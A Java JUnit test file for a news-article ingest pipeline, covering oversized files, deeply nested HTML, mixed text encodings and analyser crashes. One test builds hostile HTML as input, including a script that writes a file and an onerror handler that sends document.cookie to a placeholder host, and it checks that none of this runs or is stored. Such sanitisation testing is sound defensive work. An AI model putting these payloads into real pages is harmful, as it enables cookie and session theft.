package org.frontline.ingest;

import static org.frontline.ingest.IngestFixture.articles;
import static org.frontline.ingest.IngestFixture.ingest;
import static org.frontline.ingest.IngestFixture.problems;
import static org.frontline.ingest.IngestFixture.write;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.BufferedOutputStream;
import java.io.OutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import org.frontline.model.Article;
import org.frontline.store.Store;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * The inputs {@link BadInputTest} does not try: a 200 MB file, HTML nested 100,000 levels deep,
 * HTML full of scripts and event handlers, and a corpus folder mixing six encodings. Each is stored
 * whole or refused with a message naming the file and the reason; nothing is stored in part.
 */
class BadInputCatalogueTest {
    @TempDir
    Path dir;

    private Store open() {
        return Store.open(dir.resolve("store.db"));
    }

    /** Streams {@code megabytes} MB of plain text to {@code file} without holding it in memory. */
    static Path hugeText(Path file, int megabytes) throws Exception {
        byte[] block = "Made-up filler line about nothing in particular, repeated to fill space.\n"
                .repeat(14_000).getBytes(StandardCharsets.US_ASCII);
        try (OutputStream out = new BufferedOutputStream(Files.newOutputStream(file), 1 << 20)) {
            long target = (long) megabytes * 1024 * 1024;
            for (long written = 0; written < target; written += block.length) {
                out.write(block, 0, (int) Math.min(block.length, target - written));
            }
        }
        return file;
    }

    @Test
    @Timeout(60)
    void a200MegabyteFileIsRefusedQuicklyWithoutBeingRead() throws Exception {
        Path huge = hugeText(dir.resolve("huge dump.txt"), 200);
        Path small = write(dir.resolve("small.txt"), "Short made-up text.");
        try (Store store = open()) {
            long start = System.nanoTime();
            IngestReport r = ingest(store, huge, small);
            long millis = (System.nanoTime() - start) / 1_000_000;
            assertEquals(1, r.failures().size(), problems(r));
            IngestProblem p = r.failures().get(0);
            assertEquals(huge, p.file());
            assertTrue(p.reason().contains("is 200.0 MB, over the limit of 20.0 MB"), p.reason());
            assertTrue(millis < 3000, "refusing took " + millis + " ms: the file was read");
            assertTrue(r.totals().bytesRead() < 1024 * 1024, "bytes read: " + r.totals().bytesRead());
            assertEquals(List.of("Short made-up text."), articles(store).stream().map(Article::text).toList());
        }
    }

    @Test
    @Timeout(60)
    void htmlNested100000LevelsDeepIsReadWithoutOverflowingTheStack() {
        int depth = 100_000;
        String page = "<html><body>" + "<div><span>".repeat(depth / 2) + "<p>Deep made-up paragraph.</p>"
                + "</span></div>".repeat(depth / 2) + "<p>After the nest.</p></body></html>";
        Path f = write(dir.resolve("deep.html"), page);
        try (Store store = open()) {
            IngestReport r = ingest(store, f);
            List<Article> stored = articles(store);
            if (r.failures().isEmpty()) {
                assertEquals(1, stored.size());
                assertTrue(stored.get(0).text().contains("Deep made-up paragraph."), stored.get(0).text());
                System.out.println("deep html: stored, " + stored.get(0).text().strip().length() + " characters");
            } else {
                assertEquals(f, r.failures().get(0).file());
                assertTrue(stored.isEmpty(), "a refused page stores nothing");
                System.out.println("deep html: refused, " + r.failures().get(0).reason());
            }
        }
    }

    @Test
    void scriptsAndEventHandlersAreNeverRunAndNeverBecomeText() throws Exception {
        Path marker = dir.resolve("executed.txt");
        String page = """
                <html><head><title>Made-up report</title>
                <script>require('fs').writeFileSync('%1$s', 'ran'); document.write('CLAIM Evil captured RU');</script>
                <script src="http://example.invalid/tracker.js"></script>
                <meta http-equiv="refresh" content="0; url=http://example.invalid/">
                </head><body onload="alert('CLAIM Onload captured RU')">
                <article><p>Visible made-up paragraph.</p>
                <img src="x" onerror="fetch('http://example.invalid/'+document.cookie)">
                <a href="javascript:alert('CLAIM Href captured RU')">a link</a>
                <iframe srcdoc="<p>CLAIM Frame captured RU</p>"></iframe>
                <noscript>CLAIM Noscript captured RU</noscript>
                <template><p>CLAIM Template captured RU</p></template>
                <svg><script>alert('CLAIM Svg captured RU')</script></svg>
                <style>body { background: url(http://example.invalid/x.png) }</style>
                <p>Second made-up paragraph.</p></article></body></html>
                """.formatted(marker);
        Path f = write(dir.resolve("scripts.html"), page);
        try (Store store = open()) {
            IngestReport r = ingest(store, f);
            assertTrue(r.allStored(), problems(r));
            String text = articles(store).get(0).text();
            assertTrue(text.contains("Visible made-up paragraph.") && text.contains("Second made-up paragraph."), text);
            assertFalse(text.contains("CLAIM"), "script or hidden content became text: " + text);
            assertFalse(text.contains("example.invalid") || text.contains("alert"), text);
            assertTrue(IngestFixture.claims(store).isEmpty(), "no claim from script content");
        }
        assertFalse(Files.exists(marker), "a script ran");
    }

    @Test
    void aCorpusMixingEncodingsIsDecodedFileByFile() {
        String ru = "Москва, 3 марта 2024 г. В сообщении говорится, что подразделения заняли позиции у реки и"
                + " продолжают наступление. По словам представителя штаба, обстановка остаётся сложной.";
        String uk = "Військові повідомили, що ситуація в районі залишається складною. Представник штабу заявив,"
                + " що підрозділи утримують позиції біля річки, а мешканці селища отримали допомогу.";
        String de = "Die Lage in der Region bleibt schwierig, berichten Beobachter. Über die Brücke führt"
                + " keine Straße mehr; die Bewohner müssen täglich weite Umwege fahren, heißt es.";
        String fr = "La situation reste très difficile, selon les observateurs. Les habitants du village ont"
                + " reçu de l'aide, mais l'électricité n'est pas rétablie, a précisé le préfet.";
        Map<String, Path> files = new java.util.LinkedHashMap<>();
        files.put(ru, write(dir.resolve("mixed/1 ru-utf8.txt"), ru));
        files.put(uk, write(dir.resolve("mixed/2 uk-1251.txt"), uk, Charset.forName("windows-1251")));
        files.put(ru.replace("Москва", "Казань"), write(dir.resolve("mixed/3 ru-koi8.txt"),
                ru.replace("Москва", "Казань"), Charset.forName("KOI8-R")));
        files.put(de, write(dir.resolve("mixed/4 de-1252.txt"), de, Charset.forName("windows-1252")));
        files.put(fr, write(dir.resolve("mixed/5 fr-utf16.txt"), "\uFEFF" + fr, StandardCharsets.UTF_16LE));
        String ukBom = uk.replace("Військові", "Рятувальники");
        byte[] bom = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};
        byte[] body = ukBom.getBytes(StandardCharsets.UTF_8);
        byte[] withBom = new byte[bom.length + body.length];
        System.arraycopy(bom, 0, withBom, 0, 3);
        System.arraycopy(body, 0, withBom, 3, body.length);
        files.put(ukBom, write(dir.resolve("mixed/6 uk-utf8-bom.txt"), withBom));
        try (Store store = open()) {
            IngestReport r = ingest(store, dir.resolve("mixed"));
            assertTrue(r.allStored(), problems(r));
            Map<String, String> bySource = articles(store).stream()
                    .collect(Collectors.toMap(Article::source, Article::text));
            files.forEach((text, file) -> assertEquals(text, bySource.get(file.toString()), file.toString()));
        }
    }

    @Test
    @Timeout(30)
    void anAnalysisThatOverflowsTheStackFailsItsArticleAloneInsteadOfHangingTheRun() {
        ArticleAnalyser overflowing = new ArticleAnalyser() {
            @Override
            public Analysis analyse(ArticleInput in) {
                if (in.text().contains("OVERFLOW")) {
                    throw new StackOverflowError();
                }
                return new LineClaimAnalyser(1).analyse(in);
            }

            @Override
            public int version() {
                return 1;
            }
        };
        Path bad = write(dir.resolve("a.txt"), "Made-up OVERFLOW text.");
        Path good = write(dir.resolve("b.txt"), "Made-up text.\nCLAIM Alphaville captured RU\n");
        try (Store store = open()) {
            IngestReport r = ingest(store, overflowing, IngestSettings.defaults(), bad, good);
            assertEquals(1, r.failures().size(), problems(r));
            assertEquals(bad, r.failures().get(0).file());
            assertTrue(r.failures().get(0).reason().contains("analysis failed"), problems(r));
            assertEquals(1, articles(store).size());
        }
    }
}
